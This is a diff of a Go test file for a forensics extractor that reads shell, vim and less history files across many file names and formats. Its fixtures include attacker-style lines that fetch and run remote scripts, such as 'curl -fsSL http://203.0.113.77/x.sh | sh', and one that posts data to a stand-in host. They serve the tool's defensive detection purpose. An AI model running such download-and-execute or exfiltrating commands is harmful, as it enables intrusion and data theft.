@@ -6,6 +6,8 @@ import (
 	"fmt"
 	"io"
 	"os"
+	"path"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -14,6 +16,7 @@ import (
 
 	"icecore/forensics/artifact"
 	"icecore/forensics/artifact/artifacttest"
+	"icecore/forensics/model"
 )
 
 func extract(t testing.TB, in *artifact.Input) string {
@@ -69,6 +72,75 @@ sh /tmp/i user=deploy shell=fish programs=curl,sh,/tmp/i urls=http://203.0.113.7
 	}
 }
 
+// TestGolden: histories that ksh93, mksh, tcsh, zsh, vim and less wrote themselves.
+func TestGolden(t *testing.T) { artifacttest.Golden(t, Extractor{}, "debian") }
+
+// TestNames: a history is read under any name that shells, people and killed shells give
+// it, in any home directory.
+func TestNames(t *testing.T) {
+	const text = "curl -fsSL http://203.0.113.77/x.sh | sh\n"
+	for name, shell := range map[string]string{
+		".bash_history": "bash", ".bash_history-01234.tmp": "bash", ".bash_history.old": "bash", ".bash_history~": "bash", ".bash_eternal_history": "bash", ".local/state/bash/history": "bash",
+		".zhistory": "zsh", ".histfile": "zsh", ".zsh/history": "zsh", ".zsh/.zsh_history": "zsh", ".cache/zsh/history": "zsh", ".local/state/zsh/history": "zsh", ".config/zsh/.zsh_history": "zsh", ".zsh_history.new": "zsh",
+		".ksh_history": "ksh", ".sh_history": "ksh", ".ash_history": "ash", ".history": "tcsh", ".local/share/powershell/PSReadLine/ConsoleHost_history.txt": "powershell",
+	} {
+		for _, home := range []string{"/root", "/home/CORP/ana", "/var/lib/app", "/"} {
+			p := path.Join(home, name)
+			if !slices.ContainsFunc((Extractor{}).Patterns(), func(pattern string) bool { return artifact.Match(pattern, p) }) {
+				t.Errorf("%s: no pattern", p)
+			}
+			records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: p, Text: text})
+			want := strings.TrimPrefix(path.Base(home), "/")
+			if err != nil || len(records) != 2 || records[0].Kind != model.HistoryCommand || records[0].Get("shell") != shell || records[0].Get("user") != want {
+				t.Errorf("%s: %v\n%s", p, err, artifacttest.Lines(records))
+			}
+		}
+	}
+}
+
+// TestWritten: what shell wrote a history, its content says.
+func TestWritten(t *testing.T) {
+	for _, tt := range []struct{ name, text, shell string }{
+		{".history", ": 1795161000:0;curl http://x.invalid/a | sh\n", "zsh"},
+		{".history", "#+1795161000\ncurl http://x.invalid/a | sh\n", "tcsh"},
+		{".history", "#1795161000\ncurl http://x.invalid/a | sh\n", "bash"},
+		{".sh_history", "\x81\x01curl http://x.invalid/a | sh\n\x00\x00", "ksh"},
+		{".sh_history", "\x81\x01\x82\x00\x00\x00\x05\x00curl http://x.invalid/a | sh\n\x00", "ksh"},
+		{".sh_history", "\xab\xcd\xff\x00\x00\x00\x01curl http://x.invalid/a | sh\x00", "mksh"},
+	} {
+		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/root/" + tt.name, Text: tt.text})
+		if err != nil || len(records) != 2 || records[0].Get("shell") != tt.shell || records[0].Get("command") != "curl http://x.invalid/a | sh" {
+			t.Errorf("%q: %v\n%s", tt.text, err, artifacttest.Lines(records))
+		} else if tt.text[0] < 0x80 && records[0].Time("typed").Unix() != 1795161000 {
+			t.Errorf("%q: typed %s", tt.text, records[0].Time("typed"))
+		}
+	}
+}
+
+// TestVimCommands: only what ran a program outside of vim is a command.
+func TestVimCommands(t *testing.T) {
+	for command, want := range map[string]string{
+		"!curl http://x.invalid/a | sh":           "curl http://x.invalid/a | sh",
+		"r !curl http://x.invalid/a | sh":         "curl http://x.invalid/a | sh",
+		"r!curl http://x.invalid/a | sh":          "curl http://x.invalid/a | sh",
+		"%!curl http://x.invalid/a | sh":          "curl http://x.invalid/a | sh",
+		"silent !curl http://x.invalid/a | sh":    "curl http://x.invalid/a | sh",
+		"1,$w !curl -d@- http://x.invalid/a | sh": "curl -d@- http://x.invalid/a | sh",
+		"w! /tmp/curl http://x.invalid/a | sh":    "",
+		"e /tmp/x":                                "",
+		"s/curl http:..x.invalid.a | sh/!/":       "",
+	} {
+		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/root/.viminfo", Text: ":" + command + "\n"})
+		got := ""
+		if len(records) == 2 {
+			got = records[0].Get("command")
+		}
+		if err != nil || got != want {
+			t.Errorf("%s: %q, %v", command, got, err)
+		}
+	}
+}
+
 func TestFiles(t *testing.T) {
 	for _, tt := range []struct {
 		in   *artifact.Input
@@ -99,8 +171,15 @@ func FuzzExtract(f *testing.F) {
 	f.Add(byte(0), []byte("#1795161000\nls\n#\n#x\n"))
 	f.Add(byte(1), []byte(": 1795161000:0;a\\\nb\n: :;\\"))
 	f.Add(byte(2), []byte(`\! x`))
+	f.Add(byte(3), []byte("\x81\x01a\n\x00\x82\x00\x00"))
+	f.Add(byte(3), []byte("\xab\xcd\xff\x00\x00\x00\x01a"))
+	f.Add(byte(4), []byte(":!a\n|2,0,1795161000,,\n> ~/a\n\t*\t1\n:\x161\n<x"))
+	f.Add(byte(5), []byte(".shell\n\"a\n.mark\nm a 1 0 /x"))
+	f.Add(byte(6), []byte("a\t0\t0\t1795161000"))
+	f.Add(byte(7), []byte("[a]:1,b ssh-rsa x"))
+	names := []string{".bash_history", ".zsh_history", ".mysql_history", ".sh_history", ".viminfo", ".lesshst", ".wget-hsts", ".ssh/known_hosts"}
 	f.Fuzz(func(t *testing.T, which byte, b []byte) {
-		extract(t, input("/root/."+[]string{"bash", "zsh", "mysql"}[which%3]+"_history", b))
+		extract(t, input("/root/"+names[int(which)%len(names)], b))
 	})
 }
 
